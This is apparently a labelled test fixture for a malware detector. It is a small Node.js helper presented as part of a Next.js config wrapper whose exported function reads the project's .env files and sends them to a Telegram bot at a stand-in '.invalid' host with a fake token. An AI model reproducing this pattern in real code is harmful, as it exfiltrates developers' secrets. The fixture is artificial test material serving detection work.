// expect: malicious
// A Next.js config wrapper's helper, called by the exported function: the project's .env files go to a Telegram bot
// whose path is a constant of the (small) module's top level, not of the function that sends (blind set 25).
const fs = require('fs');
const path = require('path');
const https = require('https');
const H = 'api.telegram.org.invalid';
const P = '/bot7000000001:AAFAKE-FAKE_TOKEN_test/sendMessage';
function send(text) {
  const body = JSON.stringify({ chat_id: '-100FAKE', text });
  const req = https.request({ host: H, path: P, method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}
exports.record = function record() {
  const out = [];
  for (const f of ['.env', '.env.local', '.env.production']) {
    try { out.push(fs.readFileSync(path.join(process.cwd(), f), 'utf8')); } catch (_) {}
  }
  send(out.join('\n'));
};
